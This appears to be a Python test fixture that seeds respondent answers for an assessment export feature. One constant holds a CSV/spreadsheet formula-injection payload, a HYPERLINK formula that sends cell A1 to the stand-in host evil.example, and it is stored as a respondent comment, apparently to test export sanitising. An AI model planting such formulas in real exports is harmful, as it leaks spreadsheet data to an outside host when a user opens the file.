"""The answers the export tests share: three roles, comments, an injection, a late respondent."""

from __future__ import annotations

from assessments.models import Assessment
from tests.factories import RespondentFactory, make_answer

# Answers by role, as option keys (see tests/fixtures/sample-framework.yaml); None: a comment only.
ANSWERS = {
    "leadership": {
        "automation-deploy": "s4",
        "automation-iac": "yes",
        "experiments-tracking": "s4",
        "experiments-reproduce": "s3",
        "monitoring-drift": "s3",
        "monitoring-latency": "s2",
    },
    "data_science": {
        "automation-deploy": "s1",
        "automation-iac": "no",
        "experiments-tracking": "s2",
        "experiments-reproduce": None,
        "monitoring-drift": "dont_know",
        "monitoring-latency": "na",
    },
    "operations": {
        "automation-deploy": "s0",
        "automation-iac": "no",
        "experiments-tracking": "s0",
        "experiments-reproduce": "s2",
        "monitoring-drift": "s1",
    },
}
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def answer_the_sample(assessment: Assessment) -> Assessment:
    """Three submitted respondents of different roles, and one who has not submitted."""
    names = {"leadership": "Lena Lead", "data_science": "Dora Data", "operations": "Otto Ops"}
    for role, answers in ANSWERS.items():
        respondent = RespondentFactory(
            assessment=assessment, role=role, status="submitted", name=names[role]
        )
        for key, value in answers.items():
            comment = ""
            if role == "data_science" and key == "experiments-reproduce":
                comment = "We never tried."
            if role == "operations" and key == "automation-iac":
                comment = INJECTION
            make_answer(respondent, key, value, comment=comment)
    late = RespondentFactory(assessment=assessment, role="data_engineering", status="in_progress")
    make_answer(late, "automation-deploy", "s4")
    return assessment
